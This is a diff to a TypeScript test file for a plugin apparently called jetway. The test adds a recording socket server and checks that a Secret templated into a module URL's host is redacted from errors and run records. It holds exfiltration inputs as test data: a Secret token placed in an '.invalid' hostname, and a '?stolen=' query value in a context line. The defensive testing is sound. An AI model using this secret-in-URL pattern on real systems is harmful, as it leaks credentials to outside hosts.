@@ -3,6 +3,10 @@
 // admits it, and its value never shows in what jetway writes (argocd-contract.md: stderr becomes the ComparisonError).
 
 import assert from 'node:assert/strict';
+import { mkdtemp } from 'node:fs/promises';
+import { createServer } from 'node:http';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
 import { after, before, test } from 'node:test';
 import { startApiServer, type FakeApiServer } from '../support/apiserver.js';
 import { jetwayLine, startPluginRig, type PluginRig } from '../support/plugin-rig.js';
@@ -56,18 +60,44 @@ test("an app author reads another namespace's Secret through refs and sends it t
   assert.deepEqual(modules.requests, ['/flight.wasm?stolen=hunter2']);
 });
 
-test("an app author puts a Secret's value in the module URL's host to read it from the ComparisonError", async () => {
+/** A stand-in for jetway serve's socket that keeps the run records generate posts (what `jetway status` and Events show). */
+async function recordingSocket(): Promise<{ path: string; records: Array<Record<string, unknown>>; close(): Promise<void> }> {
+  const path = join(await mkdtemp(join(tmpdir(), 'jetway-records-')), 'jetway.sock');
+  const records: Array<Record<string, unknown>> = [];
+  const server = createServer((request, response) => {
+    const chunks: Buffer[] = [];
+    request.on('data', (c: Buffer) => chunks.push(c));
+    request.on('end', () => {
+      if (request.url === '/v1/records') records.push(JSON.parse(Buffer.concat(chunks).toString('utf8')) as Record<string, unknown>);
+      response.writeHead(request.url === '/v1/records' ? 204 : 503).end();
+    });
+  });
+  await new Promise<void>((resolve) => server.listen(path, resolve));
+  return { path, records, close: () => new Promise<void>((resolve) => server.close(() => resolve())) };
+}
+
+test("an app author puts a Secret's value in the module URL's host to read it from the ComparisonError or the run record", async () => {
   secret('team-a', 'registry-token', { token: 'S3cretT0ken' });
   const parameters = [
     { name: 'refs', map: { token: JSON.stringify({ secret: 'registry-token', key: 'token' }) } },
     { name: 'wasm', string: 'http://{{ .token }}.invalid/flight.wasm' },
   ];
-  await assert.rejects(rig.repoServer().generate(rig.app('leaker', 'app', parameters)), (error: unknown) => {
-    const line = jetwayLine(error);
-    // the resolver names the host lower-cased (getaddrinfo ENOTFOUND s3crett0ken.invalid): no form of the value may show
-    assert.doesNotMatch(line, /s3crett0ken/i);
-    assert.match(line, /^jetway: generate for Application leaker failed: cannot download module http:\/\/\{\{ \.token \}\}\.invalid\/flight\.wasm: .*\{\{ \.token \}\}\.invalid/);
-    return true;
-  });
-  assert.equal(secretReads('team-a', 'registry-token'), 1);
+  const service = await recordingSocket();
+  try {
+    await assert.rejects(rig.repoServer({ JETWAY_SOCKET: service.path }).generate(rig.app('leaker', 'app', parameters)), (error: unknown) => {
+      const line = jetwayLine(error);
+      // the resolver names the host lower-cased (getaddrinfo ENOTFOUND s3crett0ken.invalid): no form of the value may show
+      assert.doesNotMatch(line, /s3crett0ken/i);
+      assert.match(line, /^jetway: generate for Application leaker failed: cannot download module http:\/\/\{\{ \.token \}\}\.invalid\/flight\.wasm: .*\{\{ \.token \}\}\.invalid/);
+      return true;
+    });
+    assert.equal(secretReads('team-a', 'registry-token'), 1);
+    // the failed run's record (the service's status and Events) is redacted the same way
+    assert.equal(service.records.length, 1);
+    assert.equal(service.records[0]!['outcome'], 'failed');
+    assert.match(String(service.records[0]!['statusMessage']), /\{\{ \.token \}\}\.invalid/);
+    assert.doesNotMatch(JSON.stringify(service.records), /s3crett0ken/i);
+  } finally {
+    await service.close();
+  }
 });
